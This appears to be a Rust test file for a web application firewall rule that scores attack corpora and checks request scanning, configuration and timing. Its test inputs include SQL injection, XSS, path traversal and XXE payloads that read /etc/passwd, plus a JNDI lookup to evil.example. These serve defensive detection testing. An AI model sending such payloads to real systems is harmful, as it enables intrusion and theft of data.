@@ -1,0 +1,402 @@
+//! Shield tests: the labelled corpora (natively through `scan_value` and
+//! through `RuleSet::evaluate` on a query-string request), request walking,
+//! configuration, pathological inputs, and timings.
+
+use std::time::Instant;
+
+use super::*;
+use crate::ruleset::RuleSet;
+
+/// (corpus file, expected category; `None` for the benign corpus).
+const CORPORA: &[(&str, &str, Option<Category>)] = &[
+    ("sqli.txt", include_str!("../../../data/corpora/sqli.txt"), Some(Category::SqlInjection)),
+    ("nosqli.txt", include_str!("../../../data/corpora/nosqli.txt"), Some(Category::NosqlInjection)),
+    ("xss.txt", include_str!("../../../data/corpora/xss.txt"), Some(Category::Xss)),
+    ("traversal.txt", include_str!("../../../data/corpora/traversal.txt"), Some(Category::PathTraversal)),
+    ("lfi_rfi.txt", include_str!("../../../data/corpora/lfi_rfi.txt"), Some(Category::FileInclusion)),
+    ("cmdi.txt", include_str!("../../../data/corpora/cmdi.txt"), Some(Category::CommandInjection)),
+    ("ssrf.txt", include_str!("../../../data/corpora/ssrf.txt"), Some(Category::Ssrf)),
+    ("ssti.txt", include_str!("../../../data/corpora/ssti.txt"), Some(Category::TemplateInjection)),
+    ("jndi.txt", include_str!("../../../data/corpora/jndi.txt"), Some(Category::Jndi)),
+    ("crlf.txt", include_str!("../../../data/corpora/crlf.txt"), Some(Category::Crlf)),
+    ("xxe.txt", include_str!("../../../data/corpora/xxe.txt"), Some(Category::Xxe)),
+    ("benign.txt", include_str!("../../../data/corpora/benign.txt"), None),
+];
+
+/// Corpus lines: one value per line; a line that is `#` or starts with
+/// `# ` is a comment; empty lines are skipped. Nothing else is trimmed.
+pub(crate) fn corpus_lines(text: &str) -> Vec<&str> {
+    text.lines()
+        .map(|l| l.strip_suffix('\r').unwrap_or(l))
+        .filter(|l| !l.is_empty() && *l != "#" && !l.starts_with("# "))
+        .collect()
+}
+
+fn pct(value: &str) -> String {
+    let mut out = String::new();
+    for b in value.bytes() {
+        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
+            out.push(b as char);
+        } else {
+            out.push_str(&format!("%{:02X}", b));
+        }
+    }
+    out
+}
+
+fn shield_set() -> RuleSet {
+    RuleSet::compile(r#"{"rules":[{"kind":"shield","mode":"LIVE"}]}"#).unwrap()
+}
+
+fn query_request(query: String) -> Request<'static> {
+    Request { method: "GET".into(), host: "example.com".into(), path: "/search".into(), query: query.into(), ..Default::default() }
+}
+
+#[test]
+fn corpora_detection_and_false_positive_rates() {
+    let set = shield_set();
+    let mut failures = Vec::new();
+    println!("\n{:<14} {:>5} {:>9} {:>8} {:>10} {:>9}", "corpus", "lines", "flagged", "rate", "right cat", "via Wasm");
+    for (file, text, expected) in CORPORA {
+        let lines = corpus_lines(text);
+        assert!(text.starts_with('#'), "{} must start with a comment naming its source", file);
+        let mut flagged = 0;
+        let mut right = 0;
+        let mut via_rules = 0;
+        let mut misses = Vec::new();
+        for line in &lines {
+            let f = scan_value(line, 2);
+            let results = set.evaluate(&query_request(format!("q={}", pct(line))));
+            let denied = results[0].conclusion == Conclusion::Deny;
+            assert_eq!(denied, f.is_some(), "{}: query path and scan_value disagree on {:?}: {}", file, line, results[0].reason);
+            if denied {
+                via_rules += 1;
+            }
+            match (&f, expected) {
+                (Some(f), _) => {
+                    flagged += 1;
+                    if Some(f.category) == *expected {
+                        right += 1;
+                    } else if expected.is_some() {
+                        println!("    other category {:?} -> {}", line, f.category.as_str());
+                    }
+                    if expected.is_none() {
+                        misses.push(format!("{:?} -> {}", line, f.category.as_str()));
+                    }
+                }
+                (None, Some(_)) => misses.push(format!("{:?}", line)),
+                (None, None) => {}
+            }
+        }
+        let n = lines.len();
+        let rate = 100.0 * flagged as f64 / n as f64;
+        println!("{:<14} {:>5} {:>9} {:>7.1}% {:>10} {:>9}", file, n, flagged, rate, right, via_rules);
+        for m in &misses {
+            println!("    {} {}", if expected.is_some() { "missed" } else { "false positive" }, m);
+        }
+        match expected {
+            Some(_) => {
+                assert!(n >= 40, "{} has only {} lines", file, n);
+                if rate < 97.0 {
+                    failures.push(format!("{}: detection {:.1}% < 97%", file, rate));
+                }
+            }
+            None => {
+                assert!(n >= 400, "benign corpus has only {} lines", n);
+                if rate > 0.5 {
+                    failures.push(format!("{}: false positives {:.2}% > 0.5%", file, rate));
+                }
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{:?}", failures);
+}
+
+fn eval_one(rule: &str, req: &Request) -> RuleResult {
+    let set = RuleSet::compile(&format!(r#"{{"rules":[{}]}}"#, rule)).unwrap();
+    set.evaluate(req).remove(0)
+}
+
+fn reason(r: &RuleResult) -> serde_json::Value {
+    serde_json::from_str(&r.reason).unwrap()
+}
+
+#[test]
+fn reason_names_category_location_and_excerpt() {
+    let r = eval_one(r#"{"kind":"shield"}"#, &query_request("page=2&q=%27%20OR%201%3D1--".into()));
+    assert_eq!(r.conclusion, Conclusion::Deny);
+    let v = reason(&r);
+    assert_eq!(v["type"], "SHIELD");
+    assert_eq!(v["category"], "SQL_INJECTION");
+    assert_eq!(v["location"], "query:q");
+    assert_eq!(v["excerpt"], "' OR 1=1--");
+    assert_eq!(v["suspicious"], true);
+    assert_eq!(v["findings"], 1);
+    let clean = eval_one(r#"{"kind":"shield"}"#, &query_request("q=hello+world".into()));
+    assert_eq!(clean.conclusion, Conclusion::Allow);
+    assert_eq!(clean.reason, r#"{"type":"SHIELD","suspicious":false}"#);
+}
+
+#[test]
+fn excerpts_are_redacted_and_short() {
+    let long = format!("q={}", pct(&format!("{}' or 1=1--\r\n{}", "a".repeat(500), "b".repeat(100))));
+    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &query_request(long)));
+    let ex = v["excerpt"].as_str().unwrap();
+    assert!(ex.chars().count() <= 40, "{}", ex);
+    assert!(!ex.contains('\r'));
+}
+
+#[test]
+fn headers_cookies_and_path_are_scanned() {
+    let mut req = query_request(String::new());
+    req.headers = vec![("user-agent".into(), "${jndi:ldap://evil.example/a}".into())];
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["location"], "header:user-agent");
+
+    let mut req = query_request(String::new());
+    req.headers = vec![("cookie".into(), "theme=dark; sid=1%27%20or%20%271%27%3D%271".into())];
+    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &req));
+    assert_eq!(v["location"], "cookie:sid");
+
+    let mut req = query_request(String::new());
+    req.path = "/static/..%2f..%2fetc/passwd".into();
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "PATH_TRAVERSAL");
+
+    let mut req = query_request(String::new());
+    req.path = "/api/users/1%20union%20select%20password%20from%20users".into();
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "SQL_INJECTION");
+
+    // Referers from a local dev server are not SSRF.
+    let mut req = query_request(String::new());
+    req.headers = vec![("referer".into(), "http://localhost:3000/page?x=1".into())];
+    assert_eq!(eval_one(r#"{"kind":"shield"}"#, &req).conclusion, Conclusion::Allow);
+}
+
+#[test]
+fn nosql_operators_in_query_keys_and_json_keys() {
+    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &query_request("user=admin&password[%24ne]=x".into())));
+    assert_eq!(v["category"], "NOSQL_INJECTION");
+    assert_eq!(v["location"], "query:password[$ne]");
+
+    let mut req = query_request(String::new());
+    req.method = "POST".into();
+    req.body = br#"{"user":"admin","password":{"$gt":""}}"#;
+    req.headers = vec![("content-type".into(), "application/json".into())];
+    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &req));
+    assert_eq!(v["category"], "NOSQL_INJECTION");
+    assert_eq!(v["location"], "body:$.password.$gt");
+}
+
+#[test]
+fn json_bodies_report_paths_and_honour_exclusions() {
+    let mut req = query_request(String::new());
+    req.body = br#"{"a":{"b":["ok","<script>alert(1)</script>"]},"html":"<img src=x onerror=alert(1)>"}"#;
+    req.headers = vec![("content-type".into(), "application/json; charset=utf-8".into())];
+    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &req));
+    assert_eq!(v["location"], "body:$.a.b[1]");
+    assert_eq!(v["findings"], 2);
+    let v = reason(&eval_one(r#"{"kind":"shield","exclude_fields":["body:$.a","body:$.html"]}"#, &req));
+    assert_eq!(v["suspicious"], false);
+}
+
+#[test]
+fn form_multipart_text_and_xml_bodies() {
+    let mut req = query_request(String::new());
+    req.body = b"name=bob&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
+    req.headers = vec![("content-type".into(), "application/x-www-form-urlencoded".into())];
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["location"], "body:comment");
+
+    req.body = b"--b1\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n{{7*7}}\r\n--b1--\r\n";
+    req.headers = vec![("content-type".into(), "multipart/form-data; boundary=b1".into())];
+    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &req));
+    assert_eq!(v["category"], "TEMPLATE_INJECTION");
+    assert_eq!(v["location"], "body:bio");
+
+    req.body = b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
+    req.headers = vec![("content-type".into(), "application/xml".into())];
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "XXE");
+
+    req.body = b"<?xml version=\"1.0\"?><order><item sku=\"A-1\">2</item></order>";
+    assert_eq!(eval_one(r#"{"kind":"shield"}"#, &req).conclusion, Conclusion::Allow);
+}
+
+#[test]
+fn odd_content_type_charsets_are_reported() {
+    let mut req = query_request(String::new());
+    req.body = b"a=1";
+    req.headers = vec![("content-type".into(), "application/x-www-form-urlencoded; charset=ibm037".into())];
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "CONTENT_TYPE");
+    req.headers = vec![("content-type".into(), "application/json; charset=utf-8; charset=utf-7".into())];
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield"}"#, &req))["category"], "CONTENT_TYPE");
+}
+
+#[test]
+fn body_limit_policies() {
+    let big = format!("x={}&q=%27%20or%201%3D1--", "a".repeat(200));
+    let mut req = query_request(String::new());
+    req.body = big.as_bytes();
+    req.headers = vec![("content-type".into(), "application/x-www-form-urlencoded".into()), ("content-length".into(), big.len().to_string().into())];
+    let v = reason(&eval_one(r#"{"kind":"shield","body_limit":100,"on_body_limit":"allow"}"#, &req));
+    assert_eq!(v["suspicious"], false);
+    assert_eq!(v["body"], "over_limit_not_inspected");
+    let v = reason(&eval_one(r#"{"kind":"shield","body_limit":100,"on_body_limit":"deny"}"#, &req));
+    assert_eq!(v["category"], "BODY_LIMIT");
+    let v = reason(&eval_one(r#"{"kind":"shield","body_limit":100}"#, &req));
+    assert_eq!(v["suspicious"], false);
+    assert_eq!(v["body"], "prefix_inspected");
+    let v = reason(&eval_one(r#"{"kind":"shield","body_limit":1000}"#, &req));
+    assert_eq!(v["category"], "SQL_INJECTION");
+}
+
+#[test]
+fn configuration_options_and_errors() {
+    let req = query_request("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&token=%27%20or%201%3D1--".into());
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield","disable":["xss"]}"#, &req))["category"], "SQL_INJECTION");
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield","categories":["XSS"]}"#, &req))["findings"], 1);
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield","exclude_fields":["query:token","query:q"]}"#, &req))["suspicious"], false);
+    let mut excluded = query_request("q=%3Cscript%3E".into());
+    excluded.path = "/admin/cms/save".into();
+    assert_eq!(reason(&eval_one(r#"{"kind":"shield","exclude_paths":["/admin/cms"]}"#, &excluded))["excluded"], true);
+    excluded.path = "/admin/cms/../../api".into();
+    assert_eq!(eval_one(r#"{"kind":"shield","exclude_paths":["/admin/cms"]}"#, &excluded).conclusion, Conclusion::Deny);
+
+    for (cfg, option) in [
+        (r#"{"kind":"shield","sensitivity":7}"#, "sensitivity"),
+        (r#"{"kind":"shield","categories":["SQLI"]}"#, "categories"),
+        (r#"{"kind":"shield","disable":"XSS"}"#, "disable"),
+        (r#"{"kind":"shield","on_body_limit":"drop"}"#, "on_body_limit"),
+        (r#"{"kind":"shield","exclude_fields":["form:x"]}"#, "exclude_fields"),
+        (r#"{"kind":"shield","body_limit":-1}"#, "body_limit"),
+        (r#"{"kind":"shield","exclude_paths":["admin"]}"#, "exclude_paths"),
+    ] {
+        let e = RuleSet::compile(&format!(r#"{{"rules":[{}]}}"#, cfg)).unwrap_err();
+        assert_eq!(e.option, option, "{}", cfg);
+        assert_eq!(e.kind, "shield");
+    }
+}
+
+#[test]
+fn sensitivity_levels_order_detection() {
+    // Sensitivity 3 adds URLs anywhere in a value for SSRF.
+    let v = "see http://127.0.0.1:8080/admin now";
+    assert!(scan_value(v, 2).is_none());
+    assert!(scan_value(v, 3).is_some());
+}
+
+#[test]
+fn pathological_inputs_finish() {
+    let set = shield_set();
+    // Deep JSON nesting.
+    let deep = "[".repeat(100_000);
+    let mut req = query_request(String::new());
+    req.body = deep.as_bytes();
+    req.headers = vec![("content-type".into(), "application/json".into())];
+    let _ = set.evaluate(&req);
+    // 1 MB of quotes, as a query value, a header and a body.
+    let quotes = "'".repeat(1 << 20);
+    let _ = scan_value(&quotes, 4);
+    let mut req = query_request(format!("q={}", quotes));
+    req.headers = vec![("user-agent".into(), quotes.clone().into()), ("content-type".into(), "text/plain".into())];
+    req.body = quotes.as_bytes();
+    let _ = set.evaluate(&req);
+    // 100,000 layers of percent-encoding.
+    let layered = format!("%{}27", "25".repeat(100_000));
+    let _ = scan_value(&layered, 2);
+    let _ = set.evaluate(&query_request(format!("q={}", layered)));
+    // Invalid UTF-8 in a body and a lossily decoded path.
+    let mut req = query_request(String::new());
+    req.body = b"\xff\xfe\xc0\xaf\xe0\x80\xae' or 1=1--\xf0\x28\x8c\x28";
+    req.path = String::from_utf8_lossy(b"/\xc0\xae\xc0\xae/\xff").into_owned().into();
+    let _ = set.evaluate(&req);
+    // 10,000 query parameters.
+    let many: Vec<String> = (0..10_000).map(|i| format!("p{}=v%27{}", i, i)).collect();
+    let v = reason(&set.evaluate(&query_request(many.join("&"))).remove(0));
+    assert_eq!(v["query"], "max_query_params");
+    // Nested template and lookup openers.
+    let _ = scan_value(&"${".repeat(100_000), 4);
+    let _ = scan_value(&"{{".repeat(100_000), 4);
+    let _ = scan_value(&"<a ".repeat(100_000), 4);
+    let _ = scan_value(&"/..".repeat(100_000), 4);
+    let _ = scan_value(&"&#".repeat(100_000), 4);
+}
+
+fn browser_get() -> Request<'static> {
+    Request {
+        ip: "203.0.113.7".into(),
+        method: "GET".into(),
+        host: "shop.example.com".into(),
+        path: "/products/shoes/running".into(),
+        query: "page=2&sort=price_asc&q=trail+running+shoes".into(),
+        body: b"",
+        headers: vec![
+            ("host".into(), "shop.example.com".into()),
+            ("user-agent".into(), "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36".into()),
+            ("accept".into(), "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8".into()),
+            ("accept-language".into(), "en-GB,en;q=0.9,fr;q=0.8".into()),
+            ("accept-encoding".into(), "gzip, deflate, br, zstd".into()),
+            ("referer".into(), "https://shop.example.com/products/shoes?page=1".into()),
+            ("cookie".into(), "session=9f86d081884c7d659a2feaa0c55ad015; theme=dark; consent=yes".into()),
+            ("sec-ch-ua".into(), "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"".into()),
+            ("sec-ch-ua-mobile".into(), "?0".into()),
+            ("sec-fetch-site".into(), "same-origin".into()),
+            ("upgrade-insecure-requests".into(), "1".into()),
+            ("connection".into(), "keep-alive".into()),
+        ],
+        extras: vec![],
+    }
+}
+
+fn json_body(target: usize) -> String {
+    let mut s = String::from("{\"items\":[");
+    let mut i = 0;
+    while s.len() < target {
+        if i > 0 {
+            s.push(',');
+        }
+        s.push_str(&format!(
+            "{{\"id\":{},\"name\":\"Trail runner {}\",\"note\":\"Customer's choice, ships in 2-3 days\",\"tags\":[\"outdoor\",\"sale\"],\"price\":{}.99}}",
+            i, i, 40 + i
+        ));
+        i += 1;
+    }
+    s.push_str("]}");
+    s
+}
+
+fn time_per_call(iters: u32, mut f: impl FnMut()) -> f64 {
+    for _ in 0..iters / 10 {
+        f();
+    }
+    let t = Instant::now();
+    for _ in 0..iters {
+        f();
+    }
+    t.elapsed().as_secs_f64() * 1e6 / iters as f64
+}
+
+/// Prints timings (run with `--release -- --nocapture` for real figures);
+/// asserts only that the browser GET is clean and work grows linearly.
+#[test]
+fn timings() {
+    let set = shield_set();
+    let get = browser_get();
+    assert_eq!(set.evaluate(&get)[0].conclusion, Conclusion::Allow, "{}", set.evaluate(&get)[0].reason);
+    let us = time_per_call(2000, || {
+        let _ = set.evaluate(&get);
+    });
+    println!("\nbrowser GET (12 headers, short query): {:.2} µs", us);
+    let mut last = 0.0;
+    for size in [4096usize, 16384, 65536] {
+        let body = json_body(size);
+        let mut req = query_request(String::new());
+        req.method = "POST".into();
+        req.body = body.as_bytes();
+        req.headers = vec![("content-type".into(), "application/json".into())];
+        assert_eq!(set.evaluate(&req)[0].conclusion, Conclusion::Allow, "{}", set.evaluate(&req)[0].reason);
+        let us = time_per_call(200, || {
+            let _ = set.evaluate(&req);
+        });
+        println!("JSON body {:>6} bytes: {:.1} µs ({:.1} ns/byte)", body.len(), us, us * 1000.0 / body.len() as f64);
+        last = us;
+    }
+    let _ = last;
+}
